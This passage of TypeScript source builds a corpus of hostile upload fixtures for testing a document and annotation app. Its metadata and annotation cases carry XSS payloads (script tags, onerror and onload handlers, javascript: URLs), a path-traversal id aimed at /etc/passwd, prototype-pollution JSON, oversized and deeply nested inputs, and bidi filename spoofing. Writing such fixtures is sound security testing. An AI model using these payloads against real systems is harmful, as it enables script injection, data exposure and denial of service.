          head: `<link rel="canonical" href="${p.url}"><meta name="citation_pdf_url" content="${p.url}.pdf">`,
        }),
    ],
    [
      'html-json-ld',
      (p) =>
        htmlPage(p.name, '<p>Linked data in a script element.</p>', {
          head: `<script type="application/ld+json">{"@type":"Article","headline":"<img src=x onerror=${p.js}>","author":{"name":"<script>${p.js}<\\/script>"},"url":"javascript:${p.js}"}</script>`,
        }),
    ],
    [
      'html-long-title',
      (p) =>
        htmlPage(p.name, '<p>A very long title.</p>', {
          title: `Long ${'title '.repeat(full ? 200_000 : 2_000)}<script>${p.js}</script>`,
        }),
    ],
    [
      'html-bidi-title',
      (p) =>
        htmlPage(p.name, '<p>A title with direction overrides.</p>', {
          title: `\u202Egnp.exe\u202C \u200B\u2066 <b onclick="${p.js}">title</b>`,
        }),
    ],
    [
      'html-blank-title',
      (p) =>
        htmlPage(p.name, '<p>A title of control characters.</p>', {
          title: '\u0001\u0002 \u0007\u000b',
        }).replace(/<h1>[^<]*<\/h1>/, ''),
    ],
    [
      'txt-first-lines',
      (p) =>
        `<img src=x onerror="${p.js}">\nby <script>${p.js}</script>\n${remoteFor(p.name)}\n\n${proseFor(p.name, 4)}\n`,
    ],
    [
      'md-front-matter',
      (p) =>
        `---\ntitle: "<svg onload=${p.js}>"\nauthor:\n  - "<img src=x onerror=${p.js}>"\n  - name: "<script>${p.js}</script>"\ndate: "<b>2024</b>"\n---\n\n${proseFor(p.name, 4)}\n`,
    ],
    [
      'docx-properties',
      (p) =>
        docxAround(p.name, para(run('Properties with markup.')), {
          title: `<iframe src="javascript:${p.js}">`,
          creator: `<img src=x onerror="${p.js}">; <script>${p.js}</script>`,
        }),
    ],
    [
      'pdf-info',
      (p) =>
        basePdf(p.name, {
          Title: `<svg onload="${p.js}">`,
          Author: `<img src=x onerror="${p.js}">`,
          Creator: `<script>${p.js}</script>`,
        }),
    ],
    [
      'epub-creators',
      (p) =>
        epub({
          titleXml: xmlEscape(`<script>${p.js}</script>`),
          metadataXml: `<dc:creator id="c1">${xmlEscape(`<img src=x onerror="${p.js}">`)}</dc:creator><meta refines="#c1" property="file-as">${xmlEscape(`<svg onload="${p.js}">`)}</meta>`,
          chapters: [chapterXhtml(`<p>${proseFor(p.name, 3)}</p>`)],
        }),
    ],
  ];
  const extension = (slug: string): string =>
    slug.startsWith('html')
      ? 'html'
      : slug.startsWith('txt')
        ? 'txt'
        : slug.startsWith('md')
          ? 'md'
          : (slug.split('-')[0] ?? 'txt');
  for (const [slug, make] of cases) {
    const name = `metadata-${slug}.${extension(slug)}`;
    add('metadata', name, () => make(payloadFor(name)));
  }
}

// ---------------------------------------------------------------------------------------------------
// Annotation files

/** The name of the plain text the annotation files' annotations are placed on. */
export const ANCHOR_NAME = 'annotations-anchor.txt';

function annotationCases(add: Add, full: boolean): void {
  add(
    'annotations',
    ANCHOR_NAME,
    () =>
      `The anchor of the annotations\n\n${ANCHOR_QUOTES.map((quote) => `${proseFor(quote, 2)} ${quote} ${proseFor(`${quote}:after`, 2)}`).join('\n\n')}\n`,
  );
  const target = (quote: string, source = `urn:scholia:${ANCHOR_NAME}`): Record<string, unknown> => ({
    source,
    selector: [{ type: 'TextQuoteSelector', exact: quote }],
  });
  const annotation = (
    id: string,
    quote: string,
    body: unknown[],
    extra: Record<string, unknown> = {},
  ): Record<string, unknown> => ({
    '@context': 'http://www.w3.org/ns/anno.jsonld',
    type: 'Annotation',
    id,
    motivation: 'commenting',
    body,
    target: target(quote),
    ...extra,
  });
  const q = (index: number): string => ANCHOR_QUOTES[index % ANCHOR_QUOTES.length] ?? ANCHOR_QUOTES[0];
  const cases: [string, (p: Payload) => string | Uint8Array][] = [
    [
      'comment-payloads.jsonld',
      (p) =>
        JSON.stringify({
          type: 'AnnotationPage',
          items: [
            annotation('urn:uuid:6a1f0c2e-0001-4000-8000-000000000001', q(0), [
              {
                type: 'TextualBody',
                value: `[click](javascript:${p.js}) <img src=x onerror="${p.js}"> ![img](${p.url}.png) <script>${p.js}</script>`,
                format: 'text/markdown',
              },
            ]),
            annotation('urn:uuid:6a1f0c2e-0001-4000-8000-000000000002', q(1), [
              {
                type: 'TextualBody',
                value: `<iframe src="${p.url}"></iframe> [ref][r]\n\n[r]: javascript:${p.js}\n\n<${p.url}> <javascript:${p.js}>`,
                format: 'text/html',
              },
            ]),
          ],
        }),
    ],
    [
      'tag-payloads.jsonld',
      (p) =>
        JSON.stringify([
          annotation(
            'urn:uuid:6a1f0c2e-0002-4000-8000-000000000001',
            q(2),
            [
              { type: 'TextualBody', purpose: 'tagging', value: `<img src=x onerror="${p.js}">` },
              {
                type: 'TextualBody',
                purpose: 'tagging',
                value: 'path',
                'scholia:tagPath': [`<script>${p.js}</script>`, `<svg onload="${p.js}">`],
              },
              { type: 'TextualBody', purpose: 'tagging', value: 'long tag '.repeat(100) },
            ],
            { motivation: 'highlighting' },
          ),
        ]),
    ],
    [
      'color-and-dates.jsonld',
      (p) =>
        JSON.stringify([
          annotation(
            'urn:uuid:6a1f0c2e-0003-4000-8000-000000000001',
            q(3),
            [{ type: 'TextualBody', value: 'Colour and dates.' }],
            {
              'scholia:color': `yellow;background:url(${p.url})`,
              created: `<img src=x onerror="${p.js}">`,
              modified: '2024-13-45T99:99:99Z',
              creator: { name: `<script>${p.js}</script>` },
            },
          ),
        ]),
    ],
    [
      'source-javascript.jsonld',
      (p) =>
        JSON.stringify([
          {
            ...annotation('urn:uuid:6a1f0c2e-0004-4000-8000-000000000001', q(0), [
              { type: 'TextualBody', value: 'A source that is a script.' },
            ]),
            target: target(q(0), `javascript:${p.js}`),
          },
          {
            ...annotation('urn:uuid:6a1f0c2e-0004-4000-8000-000000000002', q(1), [
              { type: 'TextualBody', value: 'A remote source.' },
            ]),
            target: target(q(1), p.url),
          },
        ]),
    ],
    [
      'many.jsonld',
      (p) =>
        JSON.stringify({
          type: 'AnnotationCollection',
          first: {
            type: 'AnnotationPage',
            items: Array.from({ length: full ? 10_000 : 100 }, (_, i) =>
              annotation(`urn:uuid:6a1f0c2e-0005-4000-8000-${String(i).padStart(12, '0')}`, q(i), [
                { type: 'TextualBody', value: `Comment ${i} <img src=x onerror="${p.js}">` },
              ]),
            ),
          },
        }),
    ],
    [
      'deep-body.jsonld',
      () =>
        `[{"type":"Annotation","id":"deep","body":${deepArray(full ? 100_000 : 2_000, '{"type":"TextualBody","value":"deep"}')},"target":{"source":"x","selector":[{"type":"TextQuoteSelector","exact":"${q(0)}"}]}}]`,
    ],
    ['deep-document.jsonld', () => deepObject(full ? 100_000 : 2_000)],
    [
      'proto-pollution.jsonld',
      () =>
        `[{"type":"Annotation","id":"proto","__proto__":{"polluted":"yes"},"body":[{"type":"TextualBody","value":"proto","__proto__":{"polluted":"yes"}}],"target":{"source":"x","selector":[{"type":"TextQuoteSelector","exact":"${q(1)}","__proto__":{"exact":"polluted"}}]}}]`,
    ],
    [
      'hypothesis.json',
      (p) =>
        JSON.stringify({
          rows: [
            {
              id: 'hyp1',
              uri: `javascript:${p.js}`,
              text: `<img src=x onerror="${p.js}"> [x](javascript:${p.js}) ![i](${p.url}.png)`,
              tags: [`<script>${p.js}</script>`, `<svg onload="${p.js}">`],
              target: [{ source: p.url, selector: [{ type: 'TextQuoteSelector', exact: q(2) }] }],
              created: '2024-01-01T00:00:00Z',
            },
          ],
        }),
    ],
    ['invalid.jsonld', () => '{"type":"Annotation", "body": [ '],
    ['not-annotations.jsonld', () => '{"hello":"world"}'],
    [
      'bad-positions.jsonld',
      () =>
        JSON.stringify([
          {
            ...annotation('urn:uuid:6a1f0c2e-0006-4000-8000-000000000001', q(3), []),
            target: {
              source: 'x',
              selector: [
                { type: 'TextQuoteSelector', exact: q(3) },
                { type: 'TextPositionSelector', start: -5, end: 1e12 },
              ],
            },
          },
          {
            ...annotation('urn:uuid:6a1f0c2e-0006-4000-8000-000000000002', q(0), []),
            target: {
              source: 'x',
              selector: [
                { type: 'TextQuoteSelector', exact: q(0) },
                { type: 'TextPositionSelector', start: 1e308, end: Infinity },
              ],
            },
          },
        ]),
    ],
    [
      'huge-quote.jsonld',
      () =>
        JSON.stringify([
          annotation(
            'urn:uuid:6a1f0c2e-0007-4000-8000-000000000001',
            `${q(1)} ${'x'.repeat(full ? 5_000_000 : 50_000)}`,
            [],
          ),
        ]),
    ],
    [
      'path-ids.jsonld',
      () =>
        JSON.stringify([
          annotation('urn:uuid:../../../../etc/passwd', q(2), [
            { type: 'TextualBody', value: 'An id that is a path.' },
          ]),
          annotation('../library.json', q(3), [{ type: 'TextualBody', value: 'Another.' }]),
        ]),
    ],
  ];
  for (const [slug, make] of cases) {
    const name = `annotations-${slug}`;
    add('annotations', name, () => make(payloadFor(name)));
  }
}

// ---------------------------------------------------------------------------------------------------

/**
 * The hostile corpus, in a fixed order (the annotation files after their anchor text). `full: false`
 * keeps every input small; `full: true` uses the torture sizes.
 */
export function hostileCorpus(options: { full: boolean }): HostileCase[] {
  const { full } = options;
  const cases: HostileCase[] = [];
  const seen = new Set<string>();
  const add: Add = (category, name, make) => {
    if (seen.has(name)) throw new Error(`Two hostile cases are named ${name}`);
    seen.add(name);
    cases.push({ name, category, make });
  };
  htmlScriptCases(add);
  htmlEventCases(add);
  htmlUrlCases(add);
  htmlSvgCases(add);
  htmlMathCases(add);
  htmlCssCases(add);
  htmlResourceCases(add);
  htmlTemplateCases(add);
  htmlMutationCases(add);
  htmlObfuscatedCases(add);
  markdownCases(add, full);
  epubCases(add);
  docxCases(add);
  zipPathCases(add, full);
  uploadNameCases(add);
  xmlEntityCases(add, full);
  pdfCases(add, full);
  encodingCases(add, full);
  cslJsonCases(add, full);
  bibtexCases(add, full);
  risCases(add, full);
  cslYamlCases(add);
  metadataCases(add, full);
  annotationCases(add, full);
  return cases;
}

/** The bytes of a case, as they are uploaded. */
export function caseBytes(entry: HostileCase): Uint8Array {
  const made = entry.make();
  return typeof made === 'string' ? encoder.encode(made) : made;
}
